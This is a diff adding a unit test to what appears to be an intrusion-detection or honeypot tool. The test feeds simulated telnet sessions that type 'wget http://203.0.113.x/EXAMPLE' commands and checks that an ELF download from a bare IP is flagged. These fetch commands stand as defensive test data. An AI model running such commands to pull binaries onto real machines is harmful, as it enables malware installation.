@@ -211,6 +211,33 @@ static void test_many_servers(void **state)
 	storied_free(s);
 }
 
+/* Whatever else is typed and fetched, what was really fetched is found. */
+static void test_hidden_among_others(void **state)
+{
+	struct storied *s = storied_new(true);
+	struct finding *f = NULL;
+	size_t n;
+
+	(void)state;
+	for (unsigned i = 0; i < 20; i++) {
+		char line[64];
+
+		snprintf(line, sizeof line, "wget http://203.0.113.%u/EXAMPLE", 100 + i);
+		told_at(s, SIGNAL_telnet_command, ABROAD(9), 23, PROTO_telnet_id, line);
+		tells_of(s, SIGNAL_elf_fetched, ABROAD(50 + i), "named updates.example/EXAMPLE");
+	}
+	tells_of(s, SIGNAL_elf_fetched, ABROAD(6), "bare 203.0.113.6/EXAMPLE");
+	n = judge_with(s, D);
+	for (size_t i = 0; i < n; i++) {
+		if (strstr(s->out.list[i].text, "fetched a program (ELF) from 203.0.113.6 ") !=
+		    NULL)
+			f = &s->out.list[i];
+	}
+	assert_non_null(f);
+	assert_int_equal(f->weight, WEIGHT_SIGN);
+	storied_free(s);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -224,6 +251,7 @@ int main(void)
 		cmocka_unit_test(test_the_order_counts),
 		cmocka_unit_test(test_names_are_plain),
 		cmocka_unit_test(test_many_servers),
+		cmocka_unit_test(test_hidden_among_others),
 	};
 
 	return cmocka_run_group_tests(tests, storied_load, storied_unload);
